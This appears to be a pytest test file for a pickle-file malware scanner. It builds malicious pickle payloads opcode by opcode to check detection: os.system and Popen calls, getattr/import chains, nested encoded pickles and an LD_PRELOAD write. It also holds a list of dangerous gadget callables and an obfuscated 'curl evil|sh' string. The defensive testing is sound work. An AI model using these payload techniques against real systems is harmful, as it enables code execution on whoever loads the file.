"""One test per technique class: each payload is assembled opcode by opcode and must be caught,
resolved to the real callable, located at the opcode, and never executed (the canary stays away)."""

from __future__ import annotations

import base64
import binascii
import marshal
import pickle
import zlib
from collections.abc import Iterator
from pathlib import Path

import pytest

from mlwarden.core.severity import Severity
from mlwarden.scan.interface import ScanLimits
from tests.scan.pickle.opcodes import (
    BUILD,
    EMPTY_DICT,
    EMPTY_TUPLE,
    MARK,
    MEMOIZE,
    NEWOBJ,
    NEWOBJ_EX,
    OBJ,
    REDUCE,
    SETITEM,
    STACK_GLOBAL,
    STOP,
    TUPLE,
    TUPLE1,
    TUPLE2,
    binbytes,
    binbytes8,
    binget,
    binint1,
    binput,
    by_rule,
    call,
    callables,
    global_,
    inst,
    proto,
    s,
    scan,
    string0,
    worst,
)

CRIT = Severity.CRITICAL


@pytest.fixture
def canary(tmp_path: Path) -> Iterator[str]:
    """A command that would create a file; the test asserts the file never appears."""
    path = tmp_path / "canary"
    yield f"touch {path}"
    assert not path.exists(), "the scanner executed a payload"


def os_system(cmd: str, protocol: int = 2) -> bytes:
    return call("os", "system", s(cmd), protocol=protocol)


# ---------------------------------------------------------------------- imports and calls
def test_global_reduce_is_critical_and_located(canary: str) -> None:
    data = os_system(canary)
    ctx, [result] = scan(data)
    [finding] = by_rule(ctx, "MW-PKL-001")
    assert finding.severity is CRIT
    assert finding.evidence["callable"] == "os.system"
    assert finding.evidence["opcode"] == "GLOBAL" and finding.evidence["offset"] == 2
    assert finding.evidence["called_by"] == "REDUCE"
    assert finding.location.offset == data.index(REDUCE + STOP)
    assert result.complete and result.end == len(data) and result.protocol == 2
    assert [(g.qualname, g.verdict, g.called) for g in result.globals] == [
        ("os.system", "dangerous", True)]


def test_protocol0_text_pickle(canary: str) -> None:
    data = b"cposix\nsystem\n(" + string0(canary) + b"tR."
    ctx, [result] = scan(data)
    assert worst(ctx) is CRIT and "posix.system" in callables(ctx)
    assert result.protocol is None and result.complete


def test_stack_global_with_memo_built_names(canary: str) -> None:
    # the module and name strings are memoised first and fetched back with BINGET
    data = (proto(4) + s("os") + MEMOIZE + s("system") + MEMOIZE + b"0" + b"0"
            + binget(0) + binget(1) + STACK_GLOBAL + s(canary) + TUPLE1 + REDUCE + STOP)
    ctx, _ = scan(data)
    [finding] = by_rule(ctx, "MW-PKL-001")
    assert finding.evidence["callable"] == "os.system"
    assert finding.evidence["opcode"] == "STACK_GLOBAL"


def test_memoised_callable_called_later(canary: str) -> None:
    data = (proto(2) + global_("subprocess", "getoutput") + binput(3) + b"0" + binget(3)
            + s(canary) + TUPLE1 + REDUCE + STOP)
    ctx, _ = scan(data)
    assert "subprocess.getoutput" in callables(ctx) and worst(ctx) is CRIT


def test_inst(canary: str) -> None:
    data = MARK + string0(canary) + inst("os", "system") + STOP
    ctx, _ = scan(data)
    [finding] = by_rule(ctx, "MW-PKL-001")
    assert finding.evidence["called_by"] == "INST"


def test_obj(canary: str) -> None:
    data = MARK + global_("os", "system") + string0(canary) + OBJ + STOP
    ctx, _ = scan(data)
    [finding] = by_rule(ctx, "MW-PKL-001")
    assert finding.evidence["called_by"] == "OBJ"


def test_newobj_and_newobj_ex(canary: str) -> None:
    args = MARK + s("sh") + s("-c") + s(canary) + b"l" + TUPLE1
    newobj = proto(2) + global_("subprocess", "Popen") + args + NEWOBJ + STOP
    ctx, _ = scan(newobj)
    assert by_rule(ctx, "MW-PKL-001")[0].evidence["called_by"] == "NEWOBJ"
    newobj_ex = proto(4) + s("subprocess") + s("Popen") + STACK_GLOBAL + args + EMPTY_DICT \
        + NEWOBJ_EX + STOP
    ctx, _ = scan(newobj_ex)
    assert by_rule(ctx, "MW-PKL-001")[0].evidence["called_by"] == "NEWOBJ_EX"


def test_import_without_call_is_high_not_clean() -> None:
    # collections.defaultdict(os.system): the factory is carried, not called, while loading
    data = call("collections", "defaultdict", global_("os", "system"))
    ctx, [result] = scan(data)
    [finding] = by_rule(ctx, "MW-PKL-002")
    assert finding.severity is Severity.HIGH and finding.evidence["callable"] == "os.system"
    assert {g.qualname: g.called for g in result.globals} == {
        "collections.defaultdict": True, "os.system": False}


def test_unknown_import_is_high_and_policy_can_allow_it() -> None:
    data = call("mycompany.models", "Net")
    ctx, _ = scan(data)
    [finding] = by_rule(ctx, "MW-PKL-003")
    assert finding.severity is Severity.HIGH and finding.evidence["callable"] == "mycompany.models.Net"
    ctx, [result] = scan(data, allow=("mycompany.*",))
    assert ctx.findings == [] and result.globals[0].verdict == "safe"


def test_policy_cannot_allow_a_denylisted_callable() -> None:
    ctx, _ = scan(call("os", "system", s("id")), allow=("os.*", "*"))
    assert worst(ctx) is CRIT


# ---------------------------------------------------------------------- resolution chains
def test_getattr_import_chain_resolves_to_os_system(canary: str) -> None:
    module = global_("builtins", "__import__") + MARK + s("os") + TUPLE + REDUCE
    data = (proto(2) + global_("builtins", "getattr") + MARK + module + s("system") + TUPLE
            + REDUCE + MARK + s(canary) + TUPLE + REDUCE + STOP)
    ctx, [result] = scan(data)
    called = {f.evidence["callable"] for f in by_rule(ctx, "MW-PKL-001")}
    assert {"builtins.getattr", "builtins.__import__", "os.system"} <= called
    derived = [g for g in result.globals if g.qualname == "os.system"]
    assert derived and derived[0].called


def test_attrgetter_on_imported_module(canary: str) -> None:
    getter = global_("operator", "attrgetter") + MARK + s("system") + TUPLE + REDUCE
    module = global_("importlib", "import_module") + MARK + s("posix") + TUPLE + REDUCE
    data = (proto(2) + getter + MARK + module + TUPLE + REDUCE + MARK + s(canary) + TUPLE + REDUCE
            + STOP)
    ctx, _ = scan(data)
    assert "posix.system" in {f.evidence["callable"] for f in by_rule(ctx, "MW-PKL-001")}


def test_methodcaller(canary: str) -> None:
    caller = global_("operator", "methodcaller") + MARK + s("system") + s(canary) + TUPLE + REDUCE
    module = global_("builtins", "__import__") + MARK + s("os") + TUPLE + REDUCE
    data = proto(2) + caller + MARK + module + TUPLE + REDUCE + STOP
    ctx, _ = scan(data)
    assert "os.system" in {f.evidence["callable"] for f in by_rule(ctx, "MW-PKL-001")}


@pytest.mark.parametrize(("module", "name"), [
    ("os", "path.join"),
    ("collections", "OrderedDict.__init__.__globals__"),
    ("builtins", "bytes.fromhex"),
    ("sklearn.pipeline", "Pipeline.__reduce__"),
])
def test_dotted_global_names_are_not_safe(module: str, name: str) -> None:
    ctx, [result] = scan(call(module, name, s("x"), protocol=4))
    assert result.globals[0].verdict != "safe"
    assert worst(ctx) is not None and worst(ctx) >= Severity.HIGH


def test_partial_of_dangerous_callable(canary: str) -> None:
    partial = global_("functools", "partial") + MARK + global_("os", "system") + s(canary) + TUPLE + REDUCE
    called = proto(2) + partial + EMPTY_TUPLE + REDUCE + STOP
    ctx, _ = scan(called)
    assert [f.evidence["callable"] for f in by_rule(ctx, "MW-PKL-001")] == ["os.system"]
    carried = proto(2) + partial + STOP
    ctx, _ = scan(carried)
    assert by_rule(ctx, "MW-PKL-001") == [] and by_rule(ctx, "MW-PKL-002")


def test_copyreg_reconstructor_of_dangerous_class(canary: str) -> None:
    data = (proto(2) + global_("copy_reg", "_reconstructor") + MARK + global_("subprocess", "Popen")
            + global_("__builtin__", "object") + s(canary) + TUPLE + REDUCE + STOP)
    ctx, [result] = scan(data)
    assert "subprocess.Popen" in {f.evidence["callable"] for f in by_rule(ctx, "MW-PKL-001")}
    assert {g.qualname for g in result.globals} >= {"copyreg._reconstructor", "builtins.object"}


def test_computed_callable_is_reported() -> None:
    # calling the result of a call: nothing a model needs
    data = (proto(2) + global_("collections", "OrderedDict") + EMPTY_TUPLE + REDUCE + EMPTY_TUPLE
            + REDUCE + STOP)
    ctx, _ = scan(data)
    assert by_rule(ctx, "MW-PKL-011")


def test_obfuscated_argument_does_not_change_the_verdict() -> None:
    plain, _ = scan(os_system("id"))
    hidden, _ = scan(os_system(base64.b64encode(b"id; curl evil|sh").decode()[::-1]))
    assert [(f.rule_id, f.severity) for f in plain.findings] == [
        (f.rule_id, f.severity) for f in hidden.findings]


# ---------------------------------------------------------------------- BUILD smuggling
def test_build_sets_dunder_attributes() -> None:
    data = (proto(2) + global_("collections", "OrderedDict") + EMPTY_TUPLE + REDUCE + EMPTY_DICT
            + s("__reduce__") + global_("os", "system") + SETITEM + BUILD + STOP)
    ctx, _ = scan(data)
    [finding] = by_rule(ctx, "MW-PKL-007")
    assert finding.severity is CRIT and finding.evidence["attributes"] == ["__reduce__"]
    assert finding.location.offset == data.index(BUILD + STOP)


def test_build_slotstate_smuggling() -> None:
    data = (proto(2) + global_("collections", "OrderedDict") + EMPTY_TUPLE + REDUCE + b"N"
            + EMPTY_DICT + s("__setstate__") + s("x") + SETITEM + TUPLE2 + BUILD + STOP)
    ctx, _ = scan(data)
    assert by_rule(ctx, "MW-PKL-007")[0].severity is CRIT


def test_build_on_an_imported_class() -> None:
    data = (proto(2) + global_("collections", "OrderedDict") + EMPTY_DICT + s("fromkeys")
            + s("x") + SETITEM + BUILD + STOP)
    ctx, _ = scan(data)
    [finding] = by_rule(ctx, "MW-PKL-007")
    assert finding.evidence["on_imported_object"] is True and finding.severity is CRIT


def test_plain_build_state_is_clean() -> None:
    data = (proto(2) + global_("collections", "OrderedDict") + EMPTY_TUPLE + REDUCE + EMPTY_DICT
            + s("_private") + s("x") + SETITEM + BUILD + STOP)
    ctx, _ = scan(data)
    assert ctx.findings == []


# ---------------------------------------------------------------------- extension registry
@pytest.mark.parametrize("ext", [b"\x82\x01", b"\x83\x01\x02", b"\x84\x01\x02\x03\x04"])
def test_extension_registry_opcodes(ext: bytes) -> None:
    imported, _ = scan(proto(2) + ext + STOP)
    [finding] = by_rule(imported, "MW-PKL-006")
    assert finding.severity is Severity.HIGH
    called, _ = scan(proto(2) + ext + MARK + s("id") + TUPLE + REDUCE + STOP)
    assert by_rule(called, "MW-PKL-006")[0].severity is CRIT


# ---------------------------------------------------------------------- nested payloads
def _loads(module: str, name: str, payload: bytes) -> bytes:
    return proto(2) + global_(module, name) + MARK + payload + TUPLE + REDUCE + STOP


def test_nested_pickle_in_bytes_keeps_true_offsets(canary: str) -> None:
    inner = os_system(canary, protocol=4)
    data = _loads("pickle", "loads", binbytes(inner))
    ctx, _ = scan(data)
    [inner_call] = by_rule(ctx, "MW-PKL-001")
    start = data.index(inner)
    assert start <= inner_call.location.offset < start + len(inner)
    assert inner_call.evidence["nested_depth"] == 1
    assert by_rule(ctx, "MW-PKL-004")[0].severity is CRIT


@pytest.mark.parametrize(("decoder", "encoded"), [
    (("base64", "b64decode"), lambda b: s(base64.b64encode(b).decode())),
    (("binascii", "a2b_base64"), lambda b: binbytes(base64.b64encode(b))),
    (("codecs", "decode"), lambda b: s(base64.b64encode(b).decode()) + s("base64")),
    (("_codecs", "encode"), lambda b: s(b.decode("latin-1")) + s("latin1")),
    (("builtins", "bytes.fromhex"), lambda b: s(b.hex())),
    (("zlib", "decompress"), lambda b: binbytes(zlib.compress(b))),
    (("binascii", "unhexlify"), lambda b: s(binascii.hexlify(b).decode())),
])
@pytest.mark.parametrize("loader", [("pickle", "loads"), ("_pickle", "loads"), ("pickle", "_loads"),
                                    ("dill", "loads"), ("cloudpickle", "loads")])
def test_nested_pickle_through_decoders(decoder: tuple[str, str], encoded: object,
                                        loader: tuple[str, str], canary: str) -> None:
    inner = os_system(canary, protocol=3)
    produce = global_(*decoder) + MARK + encoded(inner) + TUPLE + REDUCE  # type: ignore[operator]
    data = proto(2) + global_(*loader) + MARK + produce + TUPLE + REDUCE + STOP
    ctx, _ = scan(data)
    [inner_call] = by_rule(ctx, "MW-PKL-001")
    assert inner_call.evidence["callable"] == "os.system"
    assert inner_call.location.offset == data.rindex(REDUCE)  # the outer loads call
    assert inner_call.evidence["nested_offset"] == inner.index(REDUCE + STOP)
    assert by_rule(ctx, "MW-PKL-004")[0].severity is CRIT


def test_doubly_nested_pickle(canary: str) -> None:
    innermost = os_system(canary)
    middle = _loads("pickle", "loads", binbytes(innermost))
    decoded = global_("base64", "b64decode") + MARK + s(base64.b64encode(middle).decode()) + TUPLE \
        + REDUCE
    data = _loads("pickle", "loads", decoded)
    ctx, _ = scan(data)
    [inner_call] = by_rule(ctx, "MW-PKL-001")
    assert inner_call.evidence["nested_depth"] == 2


def test_nested_loader_on_unrecoverable_payload_is_critical() -> None:
    data = _loads("torch", "load", global_("mypkg", "stream") + EMPTY_TUPLE + REDUCE)
    ctx, _ = scan(data)
    assert by_rule(ctx, "MW-PKL-004")[0].severity is CRIT


def test_benign_nested_pickle_is_still_reported() -> None:
    data = _loads("pickle", "loads", binbytes(pickle.dumps([1, 2, 3], protocol=2)))
    ctx, _ = scan(data)
    [finding] = by_rule(ctx, "MW-PKL-004")
    assert finding.severity is Severity.HIGH


def test_marshal_code_object() -> None:
    code = marshal.dumps(compile("open('/tmp/x','w')", "<x>", "exec"))
    data = _loads("marshal", "loads", binbytes(code))
    ctx, _ = scan(data)
    [finding] = by_rule(ctx, "MW-PKL-005")
    assert finding.severity is CRIT and finding.evidence["callable"] == "marshal.loads"


def test_types_function_type() -> None:
    data = proto(2) + global_("types", "FunctionType") + MARK + global_("mypkg", "code") + EMPTY_DICT \
        + TUPLE + REDUCE + STOP
    ctx, _ = scan(data)
    assert by_rule(ctx, "MW-PKL-005")[0].evidence["callable"] == "types.FunctionType"


def test_exec_of_source(canary: str) -> None:
    ctx, _ = scan(call("builtins", "exec", s(f"import os; os.system({canary!r})")))
    assert worst(ctx) is CRIT and by_rule(ctx, "MW-PKL-005")


# ---------------------------------------------------------------------- gadget families
GADGETS = [
    ("os", "system"), ("os", "popen"), ("os", "execv"), ("os", "spawnlp"), ("posix", "system"),
    ("nt", "system"), ("subprocess", "Popen"), ("subprocess", "run"), ("subprocess", "check_output"),
    ("builtins", "eval"), ("builtins", "open"), ("builtins", "__import__"), ("builtins", "getattr"),
    ("builtins", "setattr"), ("builtins", "delattr"), ("builtins", "globals"), ("builtins", "vars"),
    ("builtins", "input"), ("builtins", "breakpoint"), ("__builtin__", "eval"),
    ("runpy", "run_path"), ("runpy", "_run_code"), ("timeit", "timeit"), ("cProfile", "run"),
    ("profile", "run"), ("code", "InteractiveInterpreter"), ("code", "interact"),
    ("idlelib.pyshell", "main"), ("pip._internal", "main"), ("ensurepip", "_run_pip"),
    ("pydoc", "pipepager"), ("importlib", "import_module"), ("operator", "attrgetter"),
    ("operator", "methodcaller"), ("multiprocessing", "Process"),
    ("asyncio", "create_subprocess_shell"), ("asyncio", "create_subprocess_exec"),
    ("asyncio.unix_events", "_UnixSubprocessTransport"), ("_posixsubprocess", "fork_exec"),
    ("ctypes", "CDLL"), ("webbrowser", "open"), ("shutil", "rmtree"), ("shutil", "move"),
    ("shutil", "copyfile"), ("distutils.file_util", "write_file"), ("torch.hub", "load"),
    ("torch.hub", "load_state_dict_from_url"), ("torch.hub", "download_url_to_file"),
    ("torch.utils.collect_env", "run"), ("torch.jit", "load"),
    ("numpy.testing._private.utils", "runstring"), ("pty", "spawn"), ("socket", "create_connection"),
    ("http.client", "HTTPSConnection"), ("urllib.request", "urlopen"), ("smtplib", "SMTP"),
    ("ftplib", "FTP"), ("telnetlib", "Telnet"), ("requests", "get"), ("httpx", "post"),
    ("aiohttp", "request"), ("sys", "setprofile"), ("sys", "settrace"), ("signal", "signal"),
    ("platform", "popen"), ("os", "putenv"), ("_io", "open"), ("io", "open"),
    ("pathlib", "Path.write_text"), ("zipimport", "zipimporter"), ("imp", "load_source"),
    ("pkgutil", "resolve_name"), ("bdb", "Bdb"), ("pdb", "run"), ("trace", "Trace"),
    ("doctest", "debug_script"), ("venv", "create"), ("site", "addsitedir"),
    ("tempfile", "mkstemp"), ("tkinter", "Tk"), ("functools", "reduce"), ("copyreg", "add_extension"),
    ("logging.config", "listen"), ("yaml", "load"), ("sklearn.utils._testing", "assert_run_python_script"),
    ("numpy", "load"), ("torch", "load"), ("pickle", "loads"), ("dill", "loads"), ("marshal", "loads"),
    ("types", "CodeType"), ("joblib", "load"), ("pandas", "read_pickle"), ("numexpr", "evaluate"),
    ("threading", "Thread"), ("glob", "glob"), ("linecache", "getline"), ("sqlite3", "connect"),
]


@pytest.mark.parametrize(("module", "name"), GADGETS)
def test_stdlib_gadget_families_are_critical_when_called(module: str, name: str, canary: str) -> None:
    ctx, _ = scan(call(module, name, s(canary), protocol=2))
    assert worst(ctx) is CRIT, [f.message for f in ctx.findings]
    assert any(f.severity is CRIT and f.evidence.get("callable") for f in ctx.findings)


# ---------------------------------------------------------------------- broken streams
def test_truncated_after_payload(canary: str) -> None:
    data = os_system(canary)[:-1]  # no STOP
    ctx, [result] = scan(data)
    assert not result.complete
    assert by_rule(ctx, "MW-PKL-001")  # what ran before the break is reported
    [broken] = by_rule(ctx, "MW-PKL-008")
    assert broken.severity is Severity.HIGH and broken.evidence["dangerous_before_break"] is True


def test_garbage_after_payload(canary: str) -> None:
    data = os_system(canary)[:-1] + b"\xff\xfe garbage"
    ctx, [result] = scan(data)
    assert by_rule(ctx, "MW-PKL-001") and by_rule(ctx, "MW-PKL-008")
    assert result.end == len(data) - len(b"\xff\xfe garbage")


def test_truncated_benign_stream_is_medium() -> None:
    ctx, _ = scan(pickle.dumps({"a": [1, 2]}, protocol=4)[:-3])
    [finding] = ctx.findings
    assert finding.rule_id == "MW-PKL-008" and finding.severity is Severity.MEDIUM


def test_bytes_after_stop_are_trailing_data() -> None:
    data = pickle.dumps([1, 2], protocol=2) + b"\x00\x01not a pickle"
    ctx, results = scan(data, many=True)
    assert len(results) == 1 and results[0].complete
    [finding] = ctx.findings
    assert finding.rule_id == "MW-PKL-010" and finding.severity is Severity.LOW


def test_concatenated_pickles_with_protocol_change(canary: str) -> None:
    first = pickle.dumps({"weights": [1.0, 2.0]}, protocol=0)
    second = os_system(canary, protocol=4)
    third = pickle.dumps((1, 2), protocol=5)
    ctx, results = scan(first + second + third, many=True)
    assert [r.protocol for r in results] == [None, 4, 5]
    assert [r.start for r in results] == [0, len(first), len(first) + len(second)]
    [finding] = by_rule(ctx, "MW-PKL-001")
    assert len(first) <= finding.location.offset < len(first) + len(second)


def test_memo_get_before_put_and_stack_underflow() -> None:
    for data in (proto(2) + binget(7) + STOP, proto(2) + REDUCE + STOP, proto(2) + b"t."):
        ctx, [result] = scan(data)
        assert not result.complete and by_rule(ctx, "MW-PKL-008")


def test_unsupported_protocol() -> None:
    ctx, _ = scan(b"\x80\x09N.")
    assert by_rule(ctx, "MW-PKL-008")


# ---------------------------------------------------------------------- resources
def test_mark_storm_hits_the_stack_limit() -> None:
    ctx, [result] = scan(MARK * 200_000 + STOP, limits=ScanLimits(max_pickle_stack=10_000))
    assert by_rule(ctx, "MW-PKL-009") and not result.complete


def test_ten_million_opcodes_stop_at_the_opcode_limit() -> None:
    data = proto(4) + b"N0" * 5_000_000 + b"N."
    ctx, [result] = scan(data, limits=ScanLimits(max_pickle_opcodes=100_000))
    [finding] = by_rule(ctx, "MW-PKL-009")
    assert finding.severity is Severity.HIGH and result.end < 300_000


def test_deep_list_nesting_is_bounded() -> None:
    depth = 100_000
    data = proto(2) + b"]" * depth + b"a" * (depth - 1) + STOP
    ctx, [result] = scan(data)
    assert result.complete and ctx.findings == []


def test_huge_memo_is_bounded() -> None:
    data = proto(4) + (b"N" + MEMOIZE) * 50_000 + STOP
    ctx, _ = scan(data, limits=ScanLimits(max_pickle_memo=1000))
    assert by_rule(ctx, "MW-PKL-009")


def test_large_binary_payload_is_skipped_without_walking() -> None:
    blob = bytes(64 * 1024 * 1024)
    data = memoryview(proto(4) + binbytes8(blob) + b"0" + global_("collections", "OrderedDict")
                      + EMPTY_TUPLE + REDUCE + STOP)
    ctx, [result] = scan(data)
    assert result.complete and result.end == len(data) and ctx.findings == []


# ---------------------------------------------------------------------- parser divergences
@pytest.mark.parametrize("number", [b"I0x10\n", b"I010\n", b"I 7 \n", b"L0x1fL\n", b"I1_000\n"])
def test_integer_forms_either_unpickler_accepts_do_not_cut_the_stream(number: bytes,
                                                                      canary: str) -> None:
    data = number + b"0" + b"cos\nsystem\n(" + string0(canary) + b"tR."
    ctx, [result] = scan(data)
    assert result.complete and by_rule(ctx, "MW-PKL-001")


def test_value_types_that_open_files_when_called(tmp_path: Path) -> None:
    target = str(tmp_path / "created")
    for module, name in (("numpy", "memmap"), ("pandas", "HDFStore"), ("pyarrow.lib", "OSFile")):
        ctx, _ = scan(call(module, name, s(target), protocol=4))
        assert worst(ctx) is CRIT, (module, name)
    assert not (tmp_path / "created").exists()


def test_memmap_subclass_argument_is_benign(tmp_path: Path) -> None:
    import numpy as np

    mm = np.memmap(tmp_path / "m.dat", dtype=np.float32, mode="w+", shape=(4,))
    ctx, _ = scan(pickle.dumps(mm, protocol=4))
    assert ctx.findings == []


def test_deeply_nested_call_arguments_are_described_without_recursion(canary: str) -> None:
    nested = s(canary) + b"\x85" * 50_000
    data = proto(2) + global_("os", "system") + nested + TUPLE1 + REDUCE + STOP
    ctx, [result] = scan(data)
    assert result.complete and by_rule(ctx, "MW-PKL-001") and not by_rule(ctx, "MW-PKL-008")


def test_chain_of_computed_calls_is_bounded() -> None:
    data = proto(2) + global_("mypkg", "factory") + (EMPTY_TUPLE + REDUCE) * 5000 + STOP
    ctx, [result] = scan(data)
    assert result.complete and by_rule(ctx, "MW-PKL-011")


# ---------------------------------------------------------------------- allowlisted helpers as gadgets
def test_numpy_generator_ctor_calls_its_second_argument(canary: str) -> None:
    data = call("numpy.random._pickle", "__generator_ctor", s(canary), global_("os", "system"),
                protocol=4)
    ctx, _ = scan(data)
    [finding] = by_rule(ctx, "MW-PKL-001")
    assert finding.evidence["callable"] == "os.system"
    assert str(finding.evidence["args"]).startswith("('touch ")


def test_torch_rebuild_from_type_calls_its_function(canary: str) -> None:
    args = MARK + s(canary) + TUPLE
    data = call("torch._tensor", "_rebuild_from_type_v2", global_("os", "system"),
                global_("torch", "Tensor"), args, EMPTY_DICT)
    ctx, _ = scan(data)
    assert [f.evidence["callable"] for f in by_rule(ctx, "MW-PKL-001")] == ["os.system"]


@pytest.mark.parametrize(("module", "name"), [
    ("sklearn.neighbors._kd_tree", "newObj"), ("numpy.core.multiarray", "_reconstruct"),
    ("pandas._libs.arrays", "__pyx_unpickle_NDArrayBacked"),
    ("numpy.random._pickle", "__bit_generator_ctor"),
])
def test_allowlisted_helpers_instantiate_their_class_argument(module: str, name: str) -> None:
    data = call(module, name, global_("subprocess", "Popen"), MARK + TUPLE + b"K\x00", protocol=2)
    ctx, _ = scan(data)
    assert "subprocess.Popen" in {f.evidence["callable"] for f in by_rule(ctx, "MW-PKL-001")}


def test_setitem_on_an_imported_object_mutates_the_loader() -> None:
    data = proto(2) + global_("os", "environ") + s("LD_PRELOAD") + s("/tmp/evil.so") + SETITEM + STOP
    ctx, _ = scan(data)
    [finding] = by_rule(ctx, "MW-PKL-001")
    assert finding.evidence["callable"] == "os.environ" and finding.evidence["called_by"] == "SETITEM"


def test_payload_in_a_later_pickle_of_torch_legacy_bytes(canary: str) -> None:
    torch = pytest.importorskip("torch")
    import io

    buffer = io.BytesIO()
    torch.save(torch.ones(2), buffer, _use_new_zipfile_serialization=False)
    legacy = buffer.getvalue()
    # replace the fourth pickle (the object) by a payload: magic, protocol and sys_info stay
    ends = []
    pos = 0
    for _ in range(3):
        _, [result] = scan(legacy[pos:])
        pos += result.end
        ends.append(pos)
    hostile = legacy[:ends[2]] + os_system(canary) + legacy[ends[2]:]
    data = _loads("torch.storage", "_load_from_bytes", binbytes(hostile))
    ctx, _ = scan(data)
    assert "os.system" in {f.evidence["callable"] for f in by_rule(ctx, "MW-PKL-001")}
    assert by_rule(ctx, "MW-PKL-004")[0].severity is CRIT


def test_getattr_is_safe_only_for_allowlisted_attributes(canary: str) -> None:
    zone = (global_("builtins", "getattr") + binput(1) + MARK + global_("zoneinfo", "ZoneInfo")
            + s("_unpickle") + TUPLE + REDUCE + MARK + s("UTC") + binint1(1) + TUPLE + REDUCE)
    ctx, _ = scan(proto(2) + zone + STOP)
    assert ctx.findings == []
    module = global_("builtins", "__import__") + MARK + s("os") + TUPLE + REDUCE
    evil = (binget(1) + MARK + module + s("system") + TUPLE + REDUCE
            + MARK + s(canary) + TUPLE + REDUCE)
    ctx, _ = scan(proto(2) + zone + b"0" + evil + STOP)
    called = {f.evidence["callable"] for f in by_rule(ctx, "MW-PKL-001")}
    assert {"builtins.getattr", "os.system"} <= called


@pytest.mark.parametrize("prefix", [
    b"S'" + b"weights " * 700 + b"'\n0",                     # protocol-0 string past the head
    b"V" + b"weights " * 700 + b"\n0",                       # raw-unicode line past the head
    b"X" + (5600).to_bytes(4, "little") + b"weights " * 700 + b"0",  # protocol-1 BINUNICODE
    b"N0",                                                   # NONE POP: no PROTO header
])
def test_scanner_detects_pickles_whose_payload_is_beyond_the_head(prefix: bytes, canary: str) -> None:
    from mlwarden.scan.interface import ScanContext, ScanTarget
    from mlwarden.scan.pickle import PickleScanner

    data = prefix + b"cos\nsystem\n(" + string0(canary) + b"tR."
    target = ScanTarget(path="evasion.pkl", data=data)
    assert PickleScanner.detect(target.head(4096), target)
    ctx = ScanContext()
    PickleScanner().scan(target, ctx)
    assert by_rule(ctx, "MW-PKL-001")


def test_many_imports_are_summed_up_not_listed_forever() -> None:
    unknown = (global_("mypkg", "thing") + b"0") * 5000
    data = proto(2) + unknown + global_("os", "system") + MARK + s("id") + TUPLE + REDUCE + STOP
    ctx, [result] = scan(data)
    assert len(result.globals) == 5001 and len(ctx.findings) == 201
    assert by_rule(ctx, "MW-PKL-001")  # the worst one is always listed
    [summary] = [f for f in ctx.findings if "more non-allowlisted" in f.message]
    assert summary.evidence["omitted"] == 4801


def test_numpy1_ufunc_reconstruct_is_judged_by_its_target(canary: str) -> None:
    benign = call("numpy.core", "_ufunc_reconstruct", s("numpy"), s("log1p"))
    ctx, _ = scan(benign)
    assert ctx.findings == []
    hostile = (proto(2) + global_("numpy.core", "_ufunc_reconstruct") + MARK + s("os") + s("system")
               + TUPLE + REDUCE + MARK + s(canary) + TUPLE + REDUCE + STOP)
    ctx, _ = scan(hostile)
    assert [f.evidence["callable"] for f in by_rule(ctx, "MW-PKL-001")] == ["os.system"]


def test_type_is_safe_only_for_nonetype() -> None:
    ctx, _ = scan(pickle.dumps(type(None), protocol=2))
    assert ctx.findings == []
    klass = call("builtins", "type", s("X"), EMPTY_TUPLE, EMPTY_DICT + s("__eq__")
                 + global_("os", "system") + SETITEM)
    ctx, _ = scan(klass)
    assert "builtins.type" in {f.evidence["callable"] for f in by_rule(ctx, "MW-PKL-001")}


def test_self_referential_partial_does_not_crash_the_vm() -> None:
    # p = partial(int); p.__setstate__((p, (), {}, None)); p()  -> endless self-call
    data = (proto(2) + global_("functools", "partial") + MARK + global_("builtins", "int") + TUPLE
            + REDUCE + binput(0) + MARK + binget(0) + EMPTY_TUPLE + EMPTY_DICT + b"N" + TUPLE
            + BUILD + EMPTY_TUPLE + REDUCE + STOP)
    ctx, [result] = scan(data)
    assert not result.complete and by_rule(ctx, "MW-PKL-008")
